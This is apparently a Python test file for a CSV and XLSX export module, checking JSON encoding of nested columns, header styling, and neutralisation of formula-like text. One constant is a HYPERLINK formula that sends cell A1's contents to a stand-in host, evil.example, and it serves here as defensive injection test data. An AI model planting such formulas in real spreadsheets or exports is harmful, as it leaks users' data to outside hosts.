"""``aurum.formats``: CSV that writes every column (nested ones as JSON text) and stays safe in a
spreadsheet, and XLSX sheets read back with openpyxl."""

from __future__ import annotations

import csv
import io
import json
import math
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import pyarrow as pa
import pytest

from aurum.formats import Sheet, csv_bytes, write_csv, write_xlsx

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
SEEN = datetime(2025, 9, 17, 14, 30, tzinfo=UTC)


def nested() -> pa.Table:
    """A list (with a null and formula-like text), a list of lists, a struct and a map."""
    return pa.table(
        {
            "keys": pa.array([["=a|b", None, "c"], [], None], pa.list_(pa.string())),
            "deep": pa.array([[[1, 2], [3]], None, [[]]], pa.list_(pa.list_(pa.int64()))),
            "pair": pa.array(
                [{"at": date(2025, 9, 17), "n": 1.5}, None, {"at": None, "n": -2.0}],
                pa.struct([("at", pa.date32()), ("n", pa.float64())]),
            ),
            "map": pa.array([[("k", 1)], None, []], pa.map_(pa.string(), pa.int64())),
            "name": ["=1+1", "-5 TTF", "TTF"],
            "price": [-1.5, 2.0, None],
        }
    )


EXPECTED = [
    ['["=a|b",null,"c"]', "[[1,2],[3]]", '{"at":"2025-09-17","n":1.5}', '{"k":1}', "'=1+1", "-1.5"],
    ["[]", "", "", "", "'-5 TTF", "2.0"],
    ["", "[[]]", '{"at":null,"n":-2.0}', "{}", "TTF", ""],
]  # fmt: skip


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode())))


@pytest.mark.parametrize("shape", ["table", "reader"])
def test_csv_writes_nested_columns_as_json_and_still_neutralises_text(shape, tmp_path):
    table = nested()
    rows = table if shape == "table" else pa.RecordBatchReader.from_batches(
        table.schema, table.to_batches(max_chunksize=2)
    )  # fmt: skip
    path = tmp_path / "out.csv"
    write_csv(rows, path)
    header, *cells = read_csv(path.read_bytes())
    assert header == table.column_names
    assert [r[:5] for r in cells] == [r[:5] for r in EXPECTED]
    assert [r[5] and float(r[5]) for r in cells] == [-1.5, 2.0, ""]  # numbers keep their sign
    assert json.loads(cells[0][0]) == ["=a|b", None, "c"]  # JSON round-trips


def test_csv_bytes_writes_the_same_cells():
    header, *cells = read_csv(csv_bytes(nested()))
    assert header == nested().column_names
    assert cells == EXPECTED


def test_csv_can_leave_text_as_it_is():
    _, *cells = read_csv(csv_bytes(nested(), neutralised=False))
    assert [r[4] for r in cells] == ["=1+1", "-5 TTF", "TTF"]


# -- XLSX ---------------------------------------------------------------------------------------


def test_xlsx_sheets_have_a_styled_header_frozen_panes_filters_and_widths(tmp_path: Path):
    table = pa.table(
        {
            "location": ["German", FORMULA, None],
            "contract_month": [date(2025, 10, 1), date(2025, 11, 1), None],
            "mid": [87.209, math.nan, None],
            "keys": [["a", "b"], None, []],
            "at": pa.array(
                [datetime(2025, 9, 17, 14, 30, tzinfo=UTC)] * 3, pa.timestamp("us", "UTC")
            ),
            "rows": [1, 22, 333],
        }
    )
    grid = Sheet(
        "grid",
        table,
        header=(("location", None, FORMULA), tuple(table.column_names)),
        frozen_columns=1,
        formats={"mid": "0.000"},
    )
    path = tmp_path / "out.xlsx"
    write_xlsx([Sheet("long", table), grid], path)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["long", "grid"] and book.active.title == "long"

    long = book["long"]
    header = long[1]
    assert [c.value for c in header] == table.column_names
    for cell in header:
        assert cell.font.b and cell.fill.fgColor.rgb == "FFDDEBF7"
        assert cell.border.bottom.style == "thin"
    assert long.freeze_panes == "A2" and long.auto_filter.ref == "A1:F4"
    widths = [long.column_dimensions[letter].width for letter in "ABCDEF"]
    assert widths[0] >= len(FORMULA) + 2  # the longest text fits
    assert widths[1] >= len("contract_month")  # so does a header longer than a date
    assert all(6 <= w <= 61 for w in widths)

    values = [[c.value for c in row] for row in long.iter_rows(min_row=2)]
    assert values == [
        ["German", datetime(2025, 10, 1), 87.209, '["a","b"]', datetime(2025, 9, 17, 14, 30), 1],
        [FORMULA, datetime(2025, 11, 1), None, None, datetime(2025, 9, 17, 14, 30), 22],
        [None, None, None, "[]", datetime(2025, 9, 17, 14, 30), 333],
    ]  # NaN is an empty cell (Excel has no NaN); times are UTC without a zone
    assert long["B2"].number_format == "yyyy-mm-dd" and long["B2"].is_date
    assert long["E2"].number_format == "yyyy-mm-dd hh:mm:ss"
    assert long["A3"].data_type == "s"  # text that looks like a formula is text

    grid_sheet = book["grid"]
    assert grid_sheet.freeze_panes == "B3" and grid_sheet.auto_filter.ref == "A2:F5"
    assert [c.value for c in grid_sheet[1]] == ["location", None, FORMULA, None, None, None]
    assert grid_sheet["C1"].data_type == "s" and grid_sheet["C1"].font.b
    assert grid_sheet["B1"].fill.fgColor.rgb != "FFDDEBF7"  # an empty header cell is unstyled
    assert grid_sheet["C3"].number_format == "0.000"
    with zipfile.ZipFile(path) as archive:
        for name in ("xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"):
            xml = archive.read(name)
            assert b"<f>" not in xml and b"HYPERLINK" in xml  # inline text, never a formula


def test_an_empty_table_is_a_header_with_its_filter(tmp_path: Path):
    path = tmp_path / "empty.xlsx"
    write_xlsx([Sheet("data", pa.table({"a": pa.array([], pa.string())}))], path)
    sheet = openpyxl.load_workbook(path)["data"]
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [["a"]]
    assert sheet.auto_filter.ref == "A1" and sheet.freeze_panes == "A2"


def test_a_file_whose_rows_fail_midway_is_not_left_behind(tmp_path):
    """An error while the batches stream (a bad value, the time limit) leaves no file, and
    never a valid-looking part of one; an earlier file of that name is kept."""
    from aurum.errors import QueryError
    from aurum.formats import write_csv, write_parquet
    from aurum.query.engine import Session, connect

    statement = (
        "SELECT i, CASE WHEN i > 200000 THEN ('x' || i)::INTEGER ELSE i END AS v"
        " FROM range(1000000) t(i)"
    )
    kept = tmp_path / "kept.csv"
    kept.write_text("old\n")
    for writer, target in ((write_parquet, tmp_path / "out.parquet"), (write_csv, kept)):
        session = Session(connect(), timeout_s=30, user_sql=True)
        with pytest.raises(QueryError), session.batches(statement) as reader:
            writer(reader, target)
    assert not (tmp_path / "out.parquet").exists()
    assert kept.read_text() == "old\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["kept.csv"]
